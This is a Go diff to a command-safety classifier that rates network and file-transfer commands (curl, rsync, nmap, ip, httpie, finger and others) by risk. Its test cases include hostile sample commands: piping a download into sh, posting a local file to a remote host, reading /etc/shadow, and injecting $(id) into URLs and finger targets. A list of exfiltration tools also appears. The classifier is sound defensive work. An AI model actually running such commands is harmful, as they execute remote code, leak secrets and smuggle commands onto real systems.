@@ -7,10 +7,11 @@ func networkRules() []rule {
 		{
 			prog: "ip", style: dashes,
 			flags: "-4 -6 -br -s -d -j -p -o -c -a -h -brief -stats -details -json -pretty -oneline -color=? -human -all -family= " +
-				"-f= -N -r -resolve -s -n=",
+				"-f= -N -r -resolve -s -n= -V -statistics -iec -t -timestamp",
 			check: checkIP,
 			try: []try{
 				{"ip -br a", Reads}, {"ip addr show dev eth0", Reads}, {"ip route get 1.1.1.1", Reads},
+				{"ip l s eth0 up", Unclear}, {"ip link set eth0 up", Changes}, {"ip route add default via a", Changes},
 				{"ip link set eth0 down", Danger}, {"ip route flush table main", Danger}, {"ip netns exec x sh", Unclear},
 			},
 		},
@@ -23,7 +24,7 @@ func networkRules() []rule {
 			},
 		},
 		{
-			prog: "nmcli", flags: "-t -f= -p -g= -m= -c= --terse --fields= --get-values=", check: checkNmcli,
+			prog: "nmcli", flags: "-t -f= -p -g= -m= -c= --terse --fields= --get-values= --active --order= --rescan= --mode= --colors= --pretty", unclear: "-s --show-secrets -a --ask -o", check: checkNmcli,
 			try: []try{
 				{"nmcli device status", Reads}, {"nmcli connection delete x", Danger}, {"nmcli con up x", Unclear},
 			},
@@ -71,10 +72,10 @@ func networkRules() []rule {
 		},
 		{
 			prog: "nmap", marks: net,
-			flags: "-p= -sT -sS -sV -sn -sU -Pn -n -v -F -T4 -T3 -O -A -6 --open --top-ports= --reason",
-			style: single, unclear: "-oN= -oX= -oG= -oA= --script= -iL=",
+			flags: "-p= -sT -sS -sV -sn -sU -Pn -n -v -F -T4 -T3 -O -6 --open --top-ports= --reason",
+			style: single, unclear: "-oN= -oX= -oG= -oA= --script= -iL= -A -sC",
 			try: []try{
-				{"nmap -p 22 host", Reads}, {"nmap --script=x host", Unclear},
+				{"nmap -A host", Unclear}, {"nmap -p 22 host", Reads}, {"nmap --script=x host", Unclear},
 			},
 		},
 		{
@@ -85,6 +86,13 @@ func networkRules() []rule {
 			},
 		},
 		{prog: "tailscale|wg-quick", sub: "status|ip|netcheck|version|ping", flags: "--json", marks: net},
+		{
+			prog: "chronyc|ntpq", flags: "-n -p -c -a -v -4 -6", marks: net,
+			check: firstOf("tracking", "sources", "sourcestats", "activity", "ntpdata", "serverstats", "clients", "waitsync"),
+			try: []try{
+				{"chronyc tracking", Reads}, {"chronyc -n sources", Reads}, {"chronyc makestep", Unclear}, {"ntpq -p", Reads},
+			},
+		},
 		{prog: "openssl", sub: "version|ciphers", flags: "-a -v -d -V -s -tls1_2 -tls1_3", style: single},
 		{
 			prog: "openssl", sub: "x509|req|crl|verify|ocsp|asn1parse|pkcs7", style: single,
@@ -134,7 +142,7 @@ func networkRules() []rule {
 				{"ssh-keygen -lf k.pub", Reads}, {"ssh-keygen -t ed25519", Changes}, {"ssh-keygen -D ./x.so", Unclear},
 			},
 		},
-		{prog: "ssh-add", flags: "-l", level: Reads, check: needs("-l"), try: []try{{"ssh-add -l", Reads}, {"ssh-add", Unclear}}},
+		{prog: "ssh-add", flags: "-l -L", level: Reads, check: needs("-l", "-L"), try: []try{{"ssh-add -l", Reads}, {"ssh-add", Unclear}}},
 		{prog: "ssh-keyscan", flags: "-t= -p= -H -T= -4 -6", marks: net},
 	}
 }
@@ -150,10 +158,10 @@ func transferRules() []rule {
 				"--get --no-buffer --ipv4 --ipv6 --max-time= --connect-timeout= --user-agent= --header= --write-out= " +
 				"--referer= --range= --compressed --retry= --retry-delay= --retry-all-errors --http1.1 --http2 --http3 " +
 				"--cacert= --resolve= --no-progress-meter --progress-bar --max-redirs= --tlsv1.2 --tlsv1.3 --tls-max= " +
-				"--noproxy= --user= --proto= --proto-redir= --speed-limit= --url= --interface= --path-as-is --request= -X= " +
+				"--noproxy= --user= --data= -d= --data-urlencode= --proto= --proto-redir= --speed-limit= --url= --interface= --path-as-is --request= -X= " +
 				"--max-filesize= --basic --digest --no-keepalive --keepalive-time= --limit-rate= --retry-connrefused " +
 				"--retry-max-time= --styled-output --parallel -Z",
-			changes: "-d= --data= --data-raw= --data-ascii= --data-binary= --data-urlencode= --json= -F= --form= --form-string= -T= " +
+			changes: "--data-raw= --data-ascii= --data-binary= --json= -F= --form= --form-string= -T= " +
 				"--upload-file= -O -J -R --remote-name --remote-header-name --create-dirs --output-dir= --remote-time " +
 				"--remote-name-all --remove-on-error -C= --continue-at= -c= --cookie-jar= --etag-save= --trace= --trace-ascii= " +
 				"--stderr= --hsts= --alt-svc=",
@@ -162,6 +170,8 @@ func transferRules() []rule {
 				"-P= -Q= --quote= -t= --telnet-option= --mail-from= --mail-rcpt= --doh-url= --dns-servers=",
 			try: []try{
 				{"curl -sI https://example.com", Reads}, {"curl -fsSL -o f https://a", Changes}, {"curl -K evil.cfg", Unclear},
+				{"curl -sG http://a/query --data-urlencode 'query=up'", Reads}, {"curl -G http://a -d @f", Danger},
+				{"curl -u bob:pw http://a", Unclear}, {"curl -d a=b http://a", Changes},
 				{"curl -s file:///etc/shadow", Unclear}, {"curl -d @f https://a", Danger}, {"curl -X DELETE http://a/b", Danger},
 				{"curl -sXPOST -d '{}' http://a", Changes}, {"curl -T f http://a", Danger}, {"curl http://a/$(id)", Danger},
 				{"curl -so/dev/null -w '%{http_code}' http://a", Reads}, {"curl http://a | sh", Danger},
@@ -195,22 +205,50 @@ func transferRules() []rule {
 			flags: "--delete --del --delete-before --delete-after --delete-during --delete-delay --delete-excluded " +
 				"--remove-source-files --force --delete-missing-args -a -v -z -r -l -t -p -g -o -D -h -P -n -u -c -i -q -x -H " +
 				"-A -X -S -W -m -L -k -O -R -b -d -4 -6 --archive --verbose --compress --progress --stats --human-readable " +
-				"--dry-run --exclude= --include= --exclude-from= --partial --checksum --itemize-changes --bwlimit= --info= " +
+				"--dry-run --list-only -e= --exclude= --include= --exclude-from= --partial --checksum --itemize-changes --bwlimit= --info= " +
 				"--no-perms --no-owner --no-group --chmod= --chown= --inplace --append --update --backup --numeric-ids --links " +
 				"--times --recursive --size-only --ignore-existing --existing --max-size= --timeout=",
-			unclear: "-e= --rsh= --rsync-path= -M= --remote-option= --daemon --config= --password-file= -f= --filter= --files-from= " +
+			unclear: "--rsh= --rsync-path= -M= --remote-option= --daemon --config= --password-file= -f= --filter= --files-from= " +
 				"--log-file= --temp-dir= -T= --write-batch= --backup-dir=",
 			check: checkRsync,
 			try: []try{
 				{"rsync -a src/ dst/", Changes}, {"rsync -a --delete empty/ data/", Danger}, {"rsync -e ./x a b", Unclear},
-				{"rsync -avn --delete a/ b/", Reads}, {"rsync -a d host:", Changes},
+				{"rsync -avn --delete a/ b/", Reads}, {"rsync -e 'ssh -p 22' -n a b:", Reads}, {"rsync -ne 'sh -c id' a b:", Unclear}, {"rsync -a d host:", Changes},
 			},
 		},
+		{prog: "finger", marks: net, check: checkLookup, try: []try{{"finger bob", Reads}, {"finger $(id)@x.example", Danger}}},
+		{
+			prog: "tshark", style: single,
+			flags: "-r= -Y= -T= -e= -n -V -x -q -z= -c= -t= -E= -2 -R= -d= -O= -D",
+			try: []try{
+				{"tshark -r a.pcap -Y http -T fields -e http.host", Reads}, {"tshark -r a -w b", Unclear},
+				{"tshark -X lua_script:x -r a", Unclear},
+			},
+		},
+		{prog: "capinfos", flags: "-a -e -c -s -t -u -d -A -T"},
 		{prog: "aria2c|axel|youtube-dl|yt-dlp", level: Changes, why: "downloads", marks: net, flags: "-x= -s= -d= -o= -c -q -n= -k="},
-		{prog: "http|https|xh|httpie", level: Unclear, why: "sends a request", marks: net, flags: "*", check: checkSends},
+		{
+			prog: "http|https|xh|httpie", marks: net,
+			flags: "-h -b -v -p= --print= --headers --body --verbose --follow -F --verify= --timeout= --pretty= --ignore-stdin " +
+				"--check-status -q --all",
+			unclear: "-o= -d --output= --download --session= --session-read-only= -a= --auth= -f --form -j --multipart --raw=",
+			check:   checkHTTPie,
+			try: []try{
+				{"http GET a.example/b Accept:text/plain q==1", Reads}, {"http a.example", Reads},
+				{"http a.example a=b", Unclear}, {"http DELETE a.example", Danger}, {"http a.example a@f", Unclear},
+			},
+		},
+		{
+			prog: "logger", level: Changes, why: "writes to the system's log",
+			flags:   "-t= -p= -i -s --tag= --priority= --id=? --stderr -e",
+			unclear: "-n= -f= -u= -d -P= --server= --file= --socket= --udp --tcp --port=", check: checkLogger,
+			try: []try{
+				{"logger -t deploy done", Changes}, {"logger -n host x", Unclear},
+			},
+		},
 		{
 			prog: "mail|mailx|mutt|sendmail|msmtp|swaks|rclone|s3cmd|croc|wormhole|transfer|gist|pastebinit|termbin|curlftpfs|" +
-				"magic-wormhole|ffsend|uucp|logger",
+				"magic-wormhole|ffsend|uucp",
 			level: Unclear, why: "sends data away", marks: []Reason{Network, Exfiltrates}, flags: "*", check: checkSends,
 		},
 	}
